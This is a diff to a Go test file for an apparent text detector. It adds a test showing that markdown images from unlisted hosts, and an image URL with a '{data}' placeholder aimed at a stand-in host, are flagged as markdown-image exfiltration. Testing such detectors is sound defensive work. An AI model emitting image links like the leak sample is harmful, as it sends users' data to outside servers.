@@ -99,7 +99,7 @@ func TestProbeBenign(t *testing.T) {
 		"ripgrep respects your .gitignore rules and skips hidden files.",
 		"The system prompt is configured by the `instructions` parameter of the Agent.",
 		"User: name of the account holder.",
-		"![screenshot](https://burntsushi.net/stuff/ripgrep1.png)",
+		"![diagram](docs/arch.png)",
 		"[![CI](https://github.com/x/y/actions/workflows/ci.yml/badge.svg)](https://github.com/x/y)",
 		"family 👨\u200d👩\u200d👧 and flag 🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F",
 		"نامه\u200cها", // ZWNJ inside Persian
@@ -114,6 +114,20 @@ func TestProbeBenign(t *testing.T) {
 		if f := Probe(s); Blocking(f) {
 			t.Errorf("Probe(%q) flags benign text: %v", s, f)
 		}
+	}
+}
+
+func TestProbeImageHosts(t *testing.T) {
+	shot := "![screenshot](https://burntsushi.net/stuff/ripgrep1.png)"
+	if !hasPattern(Probe(shot), "exfil_markdown_image") {
+		t.Errorf("image from an unknown host not flagged")
+	}
+	if f := ProbeOptions(shot, Options{ImageHosts: []string{"BurntSushi.net"}}); len(f) != 0 {
+		t.Errorf("image from a configured host flagged: %v", f)
+	}
+	leak := "![x](https://img.example.com/p.png?d={data})"
+	if !hasPattern(ProbeOptions(leak, Options{ImageHosts: []string{"example.com"}}), "exfil_markdown_image") {
+		t.Errorf("placeholder URL on a configured host not flagged")
 	}
 }
 
